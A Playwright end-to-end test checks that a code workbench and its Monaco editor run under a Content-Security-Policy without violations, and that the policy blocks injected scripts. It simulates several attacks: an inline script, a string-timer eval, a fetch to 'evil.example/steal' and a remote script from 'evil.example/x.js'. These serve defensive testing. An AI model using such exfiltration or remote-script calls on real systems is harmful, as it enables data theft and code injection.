/**
 * The workbench under its Content-Security-Policy, in a real Chromium, as the host server sends
 * it: the app and Monaco (its editor, its TypeScript worker) run without one violation, while
 * what the policy exists to stop is stopped: an injected inline script, eval, a request to
 * another site, a plugin object. This is also the proof that the policy needs no 'unsafe-eval'.
 */
import { expect, test } from './fixtures.js';
import { codeTab } from './pages/code-tab.js';
import { sidebar } from './pages/sidebar.js';

type ProbedWindow = Window & {
  __violations: Array<{ directive: string; blocked: string; source: string }>;
  __inlineRan?: boolean;
  __faaslab?: { getEditorMarkers(): Array<{ message: string }> };
};

test('the workbench and Monaco run under the CSP, which stops inline script, eval and other sites', async ({ app }) => {
  const { page } = app;
  const refusals: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) refusals.push(m.text());
  });
  // From the first script of the next load on, every violation the document reports.
  await page.addInitScript(() => {
    const w = window as unknown as ProbedWindow;
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, source: `${e.sourceFile}:${e.lineNumber}:${e.columnNumber}` }),
    );
  });
  await page.reload();
  const csp = (await page.request.get(page.url())).headers()['content-security-policy'];
  expect(csp).toContain("script-src 'self'");
  expect(csp).not.toContain('unsafe-eval');
  await expect(page.getByTestId('app-shell')).toBeVisible();

  // Monaco, and its TypeScript worker: a syntax error comes back as a marker only if the worker runs.
  await sidebar(page).open('HelloFunction');
  await codeTab(page).open();
  await codeTab(page).openFile('index.js');
  await codeTab(page).setText('exports.handler = async (event => {\n');
  await expect.poll(() => page.evaluate(() => ((window as unknown as ProbedWindow).__faaslab?.getEditorMarkers() ?? []).length)).toBeGreaterThan(0);
  expect(await page.evaluate(() => (window as unknown as ProbedWindow).__violations)).toEqual([]);
  expect(refusals).toEqual([]);

  // What an injected script would try.
  const attempts = await page.evaluate(async () => {
    const w = window as unknown as ProbedWindow;
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.head.append(inline);
    // A string timer compiles its code when it fires, outside this evaluation (which DevTools
    // exempts from the policy), like code a page would eval.
    // Timers of the same delay fire in order: when the second has, the first has run or been refused.
    (window.setTimeout as unknown as (code: string, ms: number) => void)('window.__evalRan = true;', 0);
    await new Promise((r) => setTimeout(r, 0));
    const evalBlocked = (w as unknown as { __evalRan?: boolean }).__evalRan !== true;
    let fetchBlocked = false;
    try {
      await fetch('https://evil.example/steal', { mode: 'no-cors' });
    } catch {
      fetchBlocked = true;
    }
    const remote = document.createElement('script');
    const remoteDone = new Promise<string>((resolve) => {
      remote.onload = () => resolve('loaded');
      remote.onerror = () => resolve('blocked');
    });
    remote.src = 'https://evil.example/x.js';
    document.head.append(remote);
    return { inlineRan: w.__inlineRan === true, evalBlocked, fetchBlocked, remote: await remoteDone };
  });
  expect(attempts).toEqual({ inlineRan: false, evalBlocked: true, fetchBlocked: true, remote: 'blocked' });
  // Each refusal is reported (twice: the header's policy and index.html's own meta policy).
  const reported = (await page.evaluate(() => (window as unknown as ProbedWindow).__violations)).map((v) => `${v.directive} ${v.blocked}`);
  expect(new Set(reported)).toEqual(new Set(['script-src-elem inline', 'script-src eval', 'connect-src https://evil.example/steal', 'script-src-elem https://evil.example/x.js']));
});
